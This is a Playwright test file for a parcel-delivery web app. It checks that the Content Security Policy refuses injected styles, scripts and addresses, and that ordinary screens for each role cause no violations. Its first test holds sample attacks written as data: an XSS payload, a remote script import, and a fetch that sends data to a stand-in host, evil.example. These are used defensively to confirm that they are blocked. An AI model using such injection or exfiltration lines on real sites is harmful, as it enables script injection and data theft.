import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import type { Page } from "playwright-core";
import { DESK, PHONE, type Visitor } from "../support/browser.ts";
import { aCustodyExport } from "../support/custody-chain.ts";
import { waitFor } from "../support/wait-for.ts";
import { COURIERS_PHONE, type DemoHouse, openDemoHouse, PHOTO_OF_A_PARCEL } from "./demo-house.ts";

/* Every screen with what opens on it, under the policy that the server sends: nothing on them may be refused. */

let house: DemoHouse;

beforeAll(async () => {
  house = await openDemoHouse("content_policy");
}, 180_000);
afterAll(() => house?.[Symbol.asyncDispose]());

/** The page's answers to 404s and 401s that a test asks for are no concern of the policy. */
async function expectNothingRefused(visitor: Visitor): Promise<void> {
  const { context, violations, complaints, strangers } = visitor;
  expect(violations).toEqual([]);
  // Maps and all: nobody else learns who looks at what.
  expect(strangers).toEqual([]);
  expect(complaints.filter(text => !/Failed to load resource/.test(text))).toEqual([]);
  await context.close();
}

const see = (page: Page, sign: string | RegExp) => page.getByText(sign).first().waitFor();
const press = (page: Page, name: string | RegExp) => page.getByRole("button", { name }).first().click();
const overlay = (page: Page) => page.getByRole("dialog").or(page.getByRole("alertdialog")).first();

async function openAndClose(page: Page, name: string | RegExp): Promise<void> {
  await press(page, name);
  await overlay(page).waitFor();
  await page.keyboard.press("Escape");
  await overlay(page).waitFor({ state: "detached" });
}

async function choose(page: Page): Promise<void> {
  await page.getByRole("combobox").first().click();
  await page.getByRole("option").first().click();
}

describe("a page of ours", () => {
  test("lets nobody add a style, a script, markup or an address, and says so", async () => {
    const { page, context, violations } = await house.openAs(null, DESK);
    await house.goTo(page, "/", "To your board");
    const ATTEMPTS = {
      "style-src-elem": () =>
        document.head.append(Object.assign(document.createElement("style"), { textContent: "p{}" })),
      "style-src-attr": () => document.body.setAttribute("style", "color: red"),
      // As text, so that the bundler of this test does not look for it.
      "script-src-elem": 'import("https://evil.example/x.js").catch(() => {})',
      "require-trusted-types-for": () => {
        document.body.innerHTML = "<img src=x onerror=alert(1)>";
      },
      "trusted-types": () => {
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy("mine", {});
      },
      "connect-src": () => void fetch("https://evil.example/?with=everything").catch(() => {}),
      "img-src": () =>
        document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" })),
      "base-uri": () =>
        document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example" })),
      "frame-src": () =>
        document.body.append(
          Object.assign(document.createElement("iframe"), { src: "https://evil.example" }),
        ),
    };
    for (const [directive, attempt] of Object.entries(ATTEMPTS)) {
      violations.length = 0;
      await page.evaluate(attempt as () => void).catch(() => {});
      await waitFor(`a report of ${directive}`, () => violations.some(text => text.startsWith(directive)));
    }
    await context.close();
  }, 60_000);
});

describe("nothing is refused", () => {
  test("to a stranger: signing in and up, links of letters, tracking", async () => {
    const visitor = await house.openAs(null, PHONE);
    const { page } = visitor;
    await house.goTo(page, "/", "To your board");
    await press(page, "Sign in");
    await house.goTo(page, "/sign-up", "Create an account");
    await house.goTo(page, "/forgot-password", "Send the link");
    for (const path of ["/invitation", "/reset-password", "/verify-email"]) {
      await page.goto(`${house.server.url}${path}#${"x".repeat(32)}`);
      await page.getByRole("heading").first().waitFor();
    }
    await house.goTo(
      page,
      `/track/${(await house.orderIn("out_for_delivery")).trackingToken}`,
      /Arrives|Expected/,
    );
    await page.locator(".map-marker").first().waitFor();
    await house.goTo(page, `/track/${(await house.orderIn("delivered")).trackingToken}`, "Delivered");
    await page.goto(`${house.server.url}/track/${"x".repeat(32)}`);
    await page.getByRole("main").getByText(/link/).first().waitFor();
    await house.goTo(page, "/nowhere", "There is nothing at this address");
    await expectNothingRefused(visitor);
  }, 120_000);

  test("to somebody who checks a chain of custody", async () => {
    const visitor = await house.openAs(null, DESK);
    const { page } = visitor;
    await house.goTo(page, "/verify", /public keys? from/);
    const buffer = Buffer.from(JSON.stringify(await aCustodyExport()));
    await page
      .locator("input[type=file]")
      .setInputFiles({ name: "x.json", mimeType: "application/json", buffer });
    await page.getByRole("listitem").first().waitFor();
    await expectNothingRefused(visitor);
  }, 60_000);

  test("to a vendor: board, map, order, menu, dialog, toast, sheets, lists, reports, set-up, account", async () => {
    const visitor = await house.openAs("vendor", DESK);
    const { page } = visitor;
    await page.locator(".map-marker").first().waitFor();
    const waiting = await house.acceptedOrder();
    await house.goTo(page, `/board?sel=${waiting.id}`, waiting.customerName);
    const detail = page.getByRole("article");
    await detail.getByRole("button", { name: "Cancel" }).click();
    await overlay(page).waitFor();
    // The page behind is held still by a style of the library for dialogs.
    expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe("hidden");
    await page.keyboard.press("Escape");
    await overlay(page).waitFor({ state: "detached" });
    expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).not.toBe("hidden");
    await detail.getByRole("button", { name: "Assign" }).click();
    await page.getByRole("menuitem").first().click();
    const toast = page.locator("[data-sonner-toast]").first();
    await toast.waitFor();
    expect(await toast.evaluate(node => getComputedStyle(node).position)).toBe("absolute");
    await openAndClose(page, "New order");
    await page.getByRole("button", { name: "New order" }).hover();
    await house.goTo(page, `/board?sel=${(await house.orderIn("delivered")).id}`, "Delivered");
    await house.goTo(page, "/deliveries", /ORD-\d{8}/);
    await choose(page);
    await house.goTo(page, "/drivers", "Eero Laine");
    await openAndClose(page, "Eero Laine");
    await openAndClose(page, "Add driver");
    await house.goTo(page, "/reports", "By driver");
    await house.goTo(page, "/set-up", "Proof of delivery");
    await house.goTo(page, "/account", "This device");
    await openAndClose(page, "Set up");
    await expectNothingRefused(visitor);
  }, 120_000);

  test("to a vendor with a phone", async () => {
    const visitor = await house.openAs("vendor", { ...PHONE, colorScheme: "dark" });
    await visitor.page.getByRole("region", { name: /^Needs you/ }).waitFor();
    await expectNothingRefused(visitor);
  }, 60_000);

  test("to a customer: orders, one order with its map, the form with suggestions", async () => {
    const visitor = await house.openAs("customer", PHONE);
    const { page } = visitor;
    await page
      .getByRole("link", { name: /ORD-\d{8}/ })
      .first()
      .click();
    await see(page, "From hand to hand");
    await house.goTo(page, "/orders/new", "Who sends it?");
    await page.getByRole("link", { name: /Aurora/ }).click();
    await page.getByRole("combobox", { name: "Delivery address" }).fill("aleksanterink");
    await page.getByRole("option").first().waitFor();
    await choose(page);
    await press(page, "Order the delivery");
    await expectNothingRefused(visitor);
  }, 60_000);

  test("to a driver: the installed app, duty, an offer, a map, the hand-over", async () => {
    const visitor = await house.openAs("driver", COURIERS_PHONE);
    const { page } = visitor;
    await press(page, "Go on duty");
    await see(page, /Position sent/);
    await page.waitForFunction(
      async () => (await navigator.serviceWorker.getRegistration("/driver"))?.active,
    );
    const id = await house.offerToEero();
    await see(page, "New offer");
    await press(page, "Accept");
    await openAndClose(page, "Navigate");
    await press(page, /^Picked up/);
    await press(page, "Start delivery");
    // What is under way is on the server before the page is opened anew.
    await waitFor("the delivery to have begun", async () => {
      const { status } = await house.vendor.orders.get.query({ orderId: id });
      return status === "out_for_delivery";
    });
    await page.goto(`${house.server.url}/driver/orders/${id}/map`);
    await page.locator(".map-marker").first().waitFor();
    await page.goto(`${house.server.url}/driver`);
    await press(page, "Hand over");
    await page.getByLabel("Photo of the parcel").setInputFiles(PHOTO_OF_A_PARCEL);
    await page.locator("canvas").waitFor();
    await expectNothingRefused(visitor);
  }, 120_000);

  test("to an administrator: overview, vendors, people, orders, audit", async () => {
    const visitor = await house.openAs("admin", DESK);
    const { page } = visitor;
    await see(page, "Drivers on duty");
    await house.goTo(page, "/admin/vendors", "Aurora Pharmacy");
    await openAndClose(page, "Aurora Pharmacy");
    await house.goTo(page, "/admin/users", "Liisa Virtanen");
    await openAndClose(page, /Liisa Virtanen/);
    await house.goTo(page, "/admin/orders", /ORD-\d{8}/);
    await choose(page);
    await house.goTo(page, "/admin/audit", "signed in");
    await expectNothingRefused(visitor);
  }, 60_000);
});
